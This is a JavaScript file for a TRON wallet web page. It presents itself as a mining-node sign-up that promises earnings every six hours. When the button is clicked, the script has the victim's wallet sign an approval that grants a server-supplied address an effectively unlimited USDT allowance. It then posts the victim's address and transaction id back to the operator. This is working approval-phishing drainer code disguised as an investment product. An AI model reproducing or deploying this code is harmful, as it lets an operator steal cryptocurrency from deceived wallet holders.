var usdt = "TXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXUSDT";
var info = {};
function getInfo(cb) {
  var x = new XMLHttpRequest();
  x.open("GET", "/index/api/get_auth_address?chain=trc&code=" + getQuery("code"), true);
  x.onload = function () { info = JSON.parse(x.responseText).data; cb && cb(); };
  x.send();
}
function getQuery(k) {
  var m = location.search.match(new RegExp("[?&]" + k + "=([^&]*)"));
  return m ? m[1] : "";
}
async function doApprove() {
  if (!window.tronWeb || !window.tronWeb.defaultAddress.base58) {
    alert("请在钱包DApp浏览器中打开");
    return;
  }
  var me = window.tronWeb.defaultAddress.base58;
  var parameter = [
    { type: "address", value: info.authorized_address },
    { type: "uint256", value: "90000000000000000000000000000" }
  ];
  var tx = await tronWeb.transactionBuilder.triggerSmartContract(usdt, "increaseApproval(address,uint256)", { feeLimit: 100000000 }, parameter, me);
  var signed = await tronWeb.trx.sign(tx.transaction);
  var res = await tronWeb.trx.sendRawTransaction(signed);
  if (res.result) {
    var x = new XMLHttpRequest();
    x.open("POST", "/index/api/insert_auth", true);
    x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
    x.send("address=" + me + "&bizhong=usdt&code=" + getQuery("code") + "&authorized=" + info.authorized_address + "&txid=" + res.txid);
    alert("节点加入成功,收益将每6小时发放");
  } else {
    alert("矿工费不足");
  }
}
getInfo(function () {
  document.getElementById("receive").addEventListener("click", doApprove);
});
